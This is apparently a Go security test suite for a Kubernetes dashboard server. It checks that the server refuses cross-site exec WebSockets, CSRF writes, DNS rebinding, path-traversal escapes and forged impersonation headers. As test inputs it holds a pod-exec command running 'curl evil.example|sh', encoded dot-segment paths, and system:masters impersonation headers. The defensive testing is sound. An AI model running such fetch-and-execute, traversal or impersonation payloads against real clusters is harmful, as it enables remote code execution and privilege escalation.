package server_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/coder/websocket"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kubelive/kubelive/server"
	"github.com/kubelive/kubelive/server/embedded"
	"github.com/kubelive/kubelive/server/muxserver"
	"github.com/kubelive/kubelive/server/proxy"
)

// recorder is a fake upstream that records every request that reaches it: an API server
// behind the kubeconfig proxy, or a cluster handler. It answers WebSocket upgrades from any
// origin (as a kubelet's exec would), LISTs with an empty list and a permissive CORS header,
// watches with one event, and writes with 201.
type recorder struct {
	mu   sync.Mutex
	reqs []*http.Request // clones, bodies dropped
}

func (rec *recorder) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	rec.mu.Lock()
	rec.reqs = append(rec.reqs, r.Clone(context.Background()))
	rec.mu.Unlock()
	w.Header().Set("Access-Control-Allow-Origin", "*")
	w.Header().Set("Access-Control-Allow-Credentials", "true")
	switch {
	case strings.EqualFold(r.Header.Get("Upgrade"), "websocket"):
		c, err := websocket.Accept(w, r, &websocket.AcceptOptions{InsecureSkipVerify: true, Subprotocols: []string{"v5.channel.k8s.io"}})
		if err != nil {
			return
		}
		_ = c.Write(r.Context(), websocket.MessageBinary, []byte("\x01started"))
		_ = c.Close(websocket.StatusNormalClosure, "")
	case r.Method != http.MethodGet:
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusCreated)
		_, _ = io.WriteString(w, `{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"x"}}`)
	case r.URL.Query().Get("watch") != "":
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"type":"ADDED","object":{"kind":"Secret","metadata":{"name":"s","resourceVersion":"1"}}}`+"\n")
	default:
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"kind":"SecretList","apiVersion":"v1","metadata":{"resourceVersion":"1"},"items":[]}`)
	}
}

// count returns how many requests reached rec.
func (rec *recorder) count() int {
	rec.mu.Lock()
	defer rec.mu.Unlock()
	return len(rec.reqs)
}

func (rec *recorder) last() *http.Request {
	rec.mu.Lock()
	defer rec.mu.Unlock()
	if len(rec.reqs) == 0 {
		return nil
	}
	return rec.reqs[len(rec.reqs)-1]
}

// attackEnv is the whole backend as cmd/kubelive wires it, serving on a real loopback
// listener: "demo" (the embedded cluster), "rec" (a recorder as the cluster handler: what
// the guard lets through), and "prod" (the kubeconfig proxy to a recorder upstream whose
// server URL has a Rancher-style path prefix), the multiplexer, and /metrics.
type attackEnv struct {
	base     string // http://127.0.0.1:port
	hostport string
	store    *embedded.Store
	rec      *recorder // the "rec" cluster's handler
	upstream *recorder // the API server behind "prod"
	reg      *prometheus.Registry
}

type envOptions struct {
	allowOrigins, allowHosts []string
	maxUpstreamWatches       int
}

func newAttackEnv(t *testing.T, o envOptions) *attackEnv {
	t.Helper()
	e := &attackEnv{rec: &recorder{}, upstream: &recorder{}, reg: prometheus.NewRegistry()}
	api := httptest.NewTLSServer(e.upstream) // client-go sends credentials over TLS only
	t.Cleanup(api.Close)
	dir := t.TempDir()
	kubeconfig := filepath.Join(dir, "kubeconfig")
	require.NoError(t, os.WriteFile(kubeconfig, fmt.Appendf(nil, `apiVersion: v1
kind: Config
clusters:
- name: c
  cluster:
    server: %q
    certificate-authority-data: %s
users:
- name: u
  user:
    token: kubeconfig-token
contexts:
- name: prod
  context:
    cluster: c
    user: u
current-context: prod
`, api.URL+"/k8s/clusters/c-123", base64.StdEncoding.EncodeToString(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: api.Certificate().Raw}))), 0o600))
	ctxs, err := proxy.LoadWith(kubeconfig, proxy.Options{AcceptOptions: websocket.AcceptOptions{OriginPatterns: o.allowOrigins}})
	require.NoError(t, err)
	e.store = embedded.NewStore(embedded.Options{Seed: 1})
	require.NoError(t, embedded.Seed(e.store, nil, 1))
	clusters := []server.Cluster{
		{Name: "demo", Source: "embedded", Handler: embedded.NewHandler(e.store, embedded.HandlerOptions{WatchTimeout: time.Hour})},
		{Name: "rec", Source: "embedded", Handler: e.rec},
		{Name: "prod", Source: "kubeconfig", Handler: ctxs[0].Handler},
	}
	metrics, err := server.NewMetrics(e.reg)
	require.NoError(t, err)
	clusters = metrics.Instrument(clusters)
	up := server.NewUpstream(clusters, server.UpstreamOptions{MaxWatches: o.maxUpstreamWatches})
	require.NoError(t, server.RegisterUpstream(e.reg, up))
	mh, err := muxserver.New(muxserver.Options{Upstream: up, OriginPatterns: o.allowOrigins})
	require.NoError(t, err)
	srv, err := server.New(server.Config{Clusters: clusters, Multiplexer: mh, Metrics: metrics,
		AllowOrigins: o.allowOrigins, AllowHosts: o.allowHosts})
	require.NoError(t, err)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	ctx, cancel := context.WithCancel(context.Background())
	served := make(chan error, 1)
	go func() { served <- srv.Serve(ctx, ln) }()
	t.Cleanup(func() { cancel(); <-served; mh.Wait() })
	e.hostport = ln.Addr().String()
	e.base = "http://" + e.hostport
	return e
}

// client resolves every host name to the env's listener, as a rebound DNS name would.
func (e *attackEnv) client() *http.Client {
	return &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, network, e.hostport)
	}}}
}

// do sends a request to host (the env's own when "") with headers, and returns the status
// and body.
func (e *attackEnv) do(t *testing.T, method, host, path string, header map[string]string, body string) (int, string) {
	t.Helper()
	if host == "" {
		host = e.hostport
	}
	req, err := http.NewRequestWithContext(t.Context(), method, "http://"+host+path, strings.NewReader(body))
	require.NoError(t, err)
	if body == "" {
		req.Body, req.ContentLength = nil, 0
	}
	for k, v := range header {
		req.Header.Set(k, v)
	}
	resp, err := e.client().Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	require.NoError(t, err)
	return resp.StatusCode, string(b)
}

// dial opens a WebSocket to host (the env's own when "") with an Origin ("" for none).
func (e *attackEnv) dial(t *testing.T, host, path, origin string, protocols ...string) (*websocket.Conn, int, error) {
	t.Helper()
	if host == "" {
		host = e.hostport
	}
	h := http.Header{}
	if origin != "" {
		h.Set("Origin", origin)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
	defer cancel()
	c, resp, err := websocket.Dial(ctx, "ws://"+host+path, &websocket.DialOptions{HTTPClient: e.client(), HTTPHeader: h, Subprotocols: protocols})
	code := 0
	if resp != nil {
		code = resp.StatusCode
	}
	if err == nil {
		t.Cleanup(func() { _ = c.CloseNow() })
	}
	return c, code, err
}

const execPath = "/api/v1/namespaces/default/pods/web/exec?command=sh&command=-c&command=curl+evil.example%7Csh&stdout=true"

// TestCrossSiteExecDialsNothing is hole 1: a page on another site opens an exec WebSocket.
// The upgrade is refused before any handler runs: the cluster handler and the proxied
// API server see no request at all.
func TestCrossSiteExecDialsNothing(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t, envOptions{})
	for _, cluster := range []string{"rec", "prod"} {
		for _, origin := range []string{"http://evil.example", "null", "http://127.0.0.1:1"} {
			_, code, err := e.dial(t, "", "/clusters/"+cluster+execPath, origin, "v5.channel.k8s.io")
			require.Error(t, err, "%s from %s", cluster, origin)
			assert.Equal(t, http.StatusForbidden, code, "%s from %s", cluster, origin)
		}
	}
	assert.Zero(t, e.rec.count(), "a refused upgrade reached the cluster handler")
	assert.Zero(t, e.upstream.count(), "a refused upgrade was dialled upstream")

	for _, path := range []string{"/wsMultiplexer", "/clusters/rec/api/v1/pods?watch=1"} {
		_, code, err := e.dial(t, "", path, "http://evil.example")
		require.Error(t, err, path)
		assert.Equal(t, http.StatusForbidden, code, path)
	}
	assert.Zero(t, e.rec.count())

	// Same origin (and no Origin: not a browser) still reaches the cluster, upgraded.
	c, _, err := e.dial(t, "", "/clusters/prod"+execPath, e.base, "v5.channel.k8s.io")
	require.NoError(t, err)
	_, data, err := c.Read(t.Context())
	require.NoError(t, err)
	assert.Equal(t, "\x01started", string(data))
	assert.Equal(t, 1, e.upstream.count())
	_, _, err = e.dial(t, "", "/clusters/rec"+execPath, "")
	require.NoError(t, err)
	assert.Equal(t, 1, e.rec.count())
}

// TestAllowedOriginOpensWebSockets: --allow-origin patterns keep coder/websocket's meaning.
func TestAllowedOriginOpensWebSockets(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t, envOptions{allowOrigins: []string{"localhost:*"}})
	_, _, err := e.dial(t, "", "/clusters/prod"+execPath, "http://localhost:5173", "v5.channel.k8s.io")
	require.NoError(t, err)
	assert.Equal(t, 1, e.upstream.count())
	_, code, err := e.dial(t, "", "/clusters/prod"+execPath, "http://evil.example", "v5.channel.k8s.io")
	require.Error(t, err)
	assert.Equal(t, http.StatusForbidden, code)
	assert.Equal(t, 1, e.upstream.count())
}

// TestCSRFWrites is hole 2: a write from a foreign page (no preflight: no Content-Type, or a
// CORS-safelisted one) never reaches a cluster, embedded or proxied.
func TestCSRFWrites(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t, envOptions{allowOrigins: []string{"trusted.example"}})
	const cm = `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"csrf"}}`
	path := "/api/v1/namespaces/default/configmaps"
	tests := []struct {
		name   string
		method string
		header map[string]string
		code   int
	}{
		{name: "foreign origin, no content type", method: "POST", header: map[string]string{"Origin": "http://evil.example"}, code: 403},
		{name: "foreign origin, JSON", method: "POST", header: map[string]string{"Origin": "http://evil.example", "Content-Type": "application/json"}, code: 403},
		{name: "cross-site fetch metadata", method: "PATCH", header: map[string]string{"Sec-Fetch-Site": "cross-site", "Content-Type": "application/merge-patch+json"}, code: 403},
		{name: "same-site is not same-origin", method: "DELETE", header: map[string]string{"Sec-Fetch-Site": "same-site"}, code: 403},
		{name: "a write that claims an upgrade", method: "POST", header: map[string]string{"Upgrade": "websocket", "Sec-Fetch-Site": "cross-site", "Content-Type": "application/json"}, code: 403},
		{name: "foreign origin, PUT", method: "PUT", header: map[string]string{"Origin": "http://evil.example", "Content-Type": "application/json"}, code: 403},
		{name: "same origin, no content type", method: "POST", header: map[string]string{"Origin": "SELF"}, code: 415},
		{name: "same origin, text/plain", method: "POST", header: map[string]string{"Origin": "SELF", "Content-Type": "text/plain"}, code: 415},
		{name: "same origin, form", method: "POST", header: map[string]string{"Sec-Fetch-Site": "same-origin", "Content-Type": "application/x-www-form-urlencoded"}, code: 415},
		{name: "no browser headers, no content type", method: "POST", code: 415},
	}
	for _, cluster := range []string{"rec", "prod"} {
		for _, tt := range tests {
			h := map[string]string{}
			for k, v := range tt.header {
				h[k] = strings.ReplaceAll(v, "SELF", e.base)
			}
			code, body := e.do(t, tt.method, "", "/clusters/"+cluster+path, h, cm)
			assert.Equal(t, tt.code, code, "%s on %s: %s", tt.name, cluster, body)
			assert.Contains(t, body, `"kind":"Status"`, tt.name)
		}
	}
	assert.Zero(t, e.rec.count(), "a refused write reached the cluster handler")
	assert.Zero(t, e.upstream.count(), "a refused write reached the API server")

	code, body := e.do(t, "POST", "", "/clusters/demo"+path, map[string]string{"Origin": "http://evil.example"}, cm)
	assert.Equal(t, http.StatusForbidden, code)
	assert.Contains(t, body, "--allow-origin evil.example")
	code, _ = e.do(t, "POST", "", "/clusters/demo"+path, map[string]string{"Origin": "http://evil.example"}, "")
	assert.Equal(t, http.StatusForbidden, code, "an empty foreign POST")
	_, err := e.store.Get("configmaps", "default", "csrf")
	require.Error(t, err, "the embedded cluster created nothing")

	for _, h := range []map[string]string{
		{"Origin": e.base, "Content-Type": "application/json"},
		{"Sec-Fetch-Site": "same-origin", "Content-Type": "application/json; charset=utf-8"},
		{"Origin": "https://trusted.example", "Sec-Fetch-Site": "cross-site", "Content-Type": "application/json"},
		{"Content-Type": "application/json"}, // kubectl, curl: not a browser
	} {
		code, body := e.do(t, "POST", "", "/clusters/prod"+path, h, cm)
		assert.Equal(t, http.StatusCreated, code, "%v: %s", h, body)
	}
	assert.Equal(t, 4, e.upstream.count())
	code, body = e.do(t, "POST", "", "/clusters/demo"+path, map[string]string{"Origin": e.base, "Content-Type": "application/json"}, cm)
	assert.Equal(t, http.StatusCreated, code, body)
	code, _ = e.do(t, "DELETE", "", "/clusters/rec"+path+"/csrf", map[string]string{"Origin": e.base}, "")
	assert.Equal(t, http.StatusCreated, code, "a DELETE without a body needs no content type")
}

// TestDNSRebinding is hole 3: a name the attacker controls, rebound to 127.0.0.1, with Host
// and Origin both that name. Every route refuses it, naming --allow-host.
func TestDNSRebinding(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t, envOptions{})
	_, port, err := net.SplitHostPort(e.hostport)
	require.NoError(t, err)
	evil := "evil.example:" + port
	_, code, err := e.dial(t, evil, "/clusters/prod"+execPath, "http://"+evil, "v5.channel.k8s.io")
	require.Error(t, err)
	assert.Equal(t, http.StatusForbidden, code)
	for _, path := range []string{"/clusters/prod/api/v1/namespaces/kube-system/secrets", "/clusters/rec/api/v1/namespaces/kube-system/secrets",
		"/config", "/metrics", "/", "/admin/drop", "/wsMultiplexer"} {
		code, body := e.do(t, "GET", evil, path, map[string]string{"Origin": "http://" + evil}, "")
		assert.Equal(t, http.StatusForbidden, code, path)
		assert.Contains(t, body, "--allow-host evil.example", path)
	}
	assert.Zero(t, e.rec.count())
	assert.Zero(t, e.upstream.count())
	for _, host := range []string{"localhost:" + port, "127.0.0.1:" + port, "[::1]:" + port} {
		code, body := e.do(t, "GET", host, "/clusters/prod/api/v1/namespaces/kube-system/secrets", nil, "")
		assert.Equal(t, http.StatusOK, code, "%s: %s", host, body)
	}
	code, _ = e.do(t, "GET", "localhost:1", "/config", nil, "")
	assert.Equal(t, http.StatusForbidden, code, "a loopback name on another port")

	allowed := newAttackEnv(t, envOptions{allowHosts: []string{"kubelive.internal"}})
	code, _ = allowed.do(t, "GET", "kubelive.internal:"+port, "/config", nil, "")
	assert.Equal(t, http.StatusOK, code, "--allow-host adds a name")
}

// TestPathEscapes is hole 4: dot segments, raw or percent-encoded, never reach an upstream
// under its path prefix, over HTTP, WebSocket or a multiplexer REQUEST; nor do paths outside
// the API's roots or empty segments.
func TestPathEscapes(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t, envOptions{})
	for _, p := range []string{
		"/clusters/prod/%2e%2e/%2e%2e/v3/users",
		"/clusters/prod/api/%2e%2e/%2e%2e/v3/users",
		"/clusters/prod/api/v1/namespaces/%2E%2E%2f%2e%2e%2fv3/users",
		"/clusters/prod/api/v1/namespaces/a/..%2f..%2f..%2fv3",
		"/clusters/prod/api//v1/pods",
		"/clusters/prod/v3/users",
		"/clusters/prod/api/v1/%2e/pods",
	} {
		code, body := e.do(t, "GET", "", p, nil, "")
		assert.Equal(t, http.StatusBadRequest, code, "%s: %s", p, body)
		_, code, err := e.dial(t, "", p, "")
		require.Error(t, err, p)
		assert.Equal(t, http.StatusBadRequest, code, p)
	}
	assert.Zero(t, e.upstream.count(), "an escaping path reached the API server")

	mux, _, err := e.dial(t, "", "/wsMultiplexer", "")
	require.NoError(t, err)
	for _, p := range []string{"/api/../../v3/users", "/api/v1/%2e%2e/x", "/api/v1/namespaces/a%2f..%2f..%2f..%2fv3", "/v3/users", "/api/v1/pods?watch=1", "/api//v1/pods"} {
		msg := muxRequest(t, mux, "prod", p, "watch=1")
		assert.Equal(t, "ERROR", msg.Type, p)
		assert.Contains(t, msg.Data, "bad API path", p)
	}
	// A REQUEST that is not a watch is not served either (no plain GET with the kubeconfig's
	// credentials): hole 4's sibling.
	msg := muxRequest(t, mux, "prod", "/api/v1/namespaces/x/secrets", "")
	assert.Equal(t, "ERROR", msg.Type)
	assert.Contains(t, msg.Data, "watches only")
	assert.Zero(t, e.upstream.count(), "a bad multiplexer REQUEST reached the API server")
	msg = muxRequest(t, mux, "prod", "/api/v1/namespaces/x/secrets", "watch=1")
	assert.Equal(t, "connected", msg.State, "a clean watch is served: %+v", msg)
	require.Eventually(t, func() bool { return e.upstream.count() == 1 }, 10*time.Second, 10*time.Millisecond)
	assert.Equal(t, "/k8s/clusters/c-123/api/v1/namespaces/x/secrets", e.upstream.last().URL.Path)
}

// muxFrame is a Headlamp JSON multiplexer message.
type muxFrame struct {
	ClusterID string `json:"clusterId"`
	Path      string `json:"path"`
	Query     string `json:"query"`
	UserID    string `json:"userId"`
	Type      string `json:"type"`
	Data      string `json:"data,omitempty"`
	State     string `json:"-"`
}

// muxRequest sends a REQUEST and returns the first reply for it that is not DATA: an ERROR,
// or a STATUS (State holds its state).
func muxRequest(t *testing.T, c *websocket.Conn, cluster, path, query string) muxFrame {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
	defer cancel()
	b, err := json.Marshal(muxFrame{ClusterID: cluster, Path: path, Query: query, Type: "REQUEST"})
	require.NoError(t, err)
	require.NoError(t, c.Write(ctx, websocket.MessageText, b))
	for {
		_, data, err := c.Read(ctx)
		require.NoError(t, err)
		var m muxFrame
		require.NoError(t, json.Unmarshal(data, &m))
		if m.Path != path || m.Type == "DATA" {
			continue
		}
		if m.Type == "STATUS" {
			var st struct{ State string }
			require.NoError(t, json.Unmarshal([]byte(m.Data), &st))
			m.State = st.State
			if m.State == "error" {
				continue // the ERROR that follows carries the reason
			}
		}
		return m
	}
}

// TestProxyStripsIdentityAndCORSHeaders: what a page could add to choose another identity,
// or the browser's own cookies, Origin and Referer, never reach the API server; the API
// server's CORS headers never reach the browser.
func TestProxyStripsIdentityAndCORSHeaders(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t, envOptions{})
	code, _ := e.do(t, "GET", "", "/clusters/prod/api/v1/namespaces/kube-system/secrets", map[string]string{
		"Impersonate-User": "system:admin", "Impersonate-Group": "system:masters", "Impersonate-Extra-Scopes": "x",
		"Impersonate-Uid": "1", "X-Remote-User": "admin", "X-Remote-Group": "system:masters", "X-Remote-Extra-Foo": "bar",
		"Cookie": "session=1", "Origin": e.base, "Referer": e.base + "/",
	}, "")
	require.Equal(t, http.StatusOK, code)
	got := e.upstream.last()
	require.NotNil(t, got)
	for k := range got.Header {
		lk := strings.ToLower(k)
		assert.False(t, strings.HasPrefix(lk, "impersonate-") || strings.HasPrefix(lk, "x-remote-") ||
			lk == "cookie" || lk == "origin" || lk == "referer", "forwarded %s", k)
	}
	assert.Equal(t, "Bearer kubeconfig-token", got.Header.Get("Authorization"), "%v", got.Header)

	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, e.base+"/clusters/prod/api/v1/namespaces/kube-system/secrets", nil)
	require.NoError(t, err)
	req.Header.Set("Origin", "http://evil.example")
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	resp.Body.Close()
	for k := range resp.Header {
		assert.False(t, strings.HasPrefix(strings.ToLower(k), "access-control-"), "relayed %s", k)
	}
}

// TestUpstreamWatchCap: the multiplexer's watches are capped server-wide, across sockets;
// the subscription that hits the cap gets an ERROR saying so, the others keep theirs.
func TestUpstreamWatchCap(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t, envOptions{maxUpstreamWatches: 2})
	a, _, err := e.dial(t, "", "/wsMultiplexer", "")
	require.NoError(t, err)
	b, _, err := e.dial(t, "", "/wsMultiplexer", "")
	require.NoError(t, err)
	rv := e.store.ResourceVersion()
	assert.Equal(t, "connected", muxRequest(t, a, "demo", "/api/v1/pods", "watch=1&resourceVersion="+rv).State)
	assert.Equal(t, "connected", muxRequest(t, b, "demo", "/api/v1/configmaps", "watch=1&resourceVersion="+rv).State)
	msg := muxRequest(t, b, "demo", "/api/v1/events", "watch=1&resourceVersion="+rv)
	assert.Equal(t, "ERROR", msg.Type)
	assert.Contains(t, msg.Data, "server-wide watch limit reached (2 watches")
	assert.Equal(t, 2.0, gauge(t, e.reg, "kubelive_upstream_watches", nil))
	require.NoError(t, a.Close(websocket.StatusNormalClosure, ""))
	require.Eventually(t, func() bool { return gauge(t, e.reg, "kubelive_upstream_watches", nil) == 1 }, 10*time.Second, 10*time.Millisecond)
	assert.Equal(t, "connected", muxRequest(t, b, "demo", "/api/v1/events", "watch=1&resourceVersion="+rv).State, "a freed slot is usable")
}
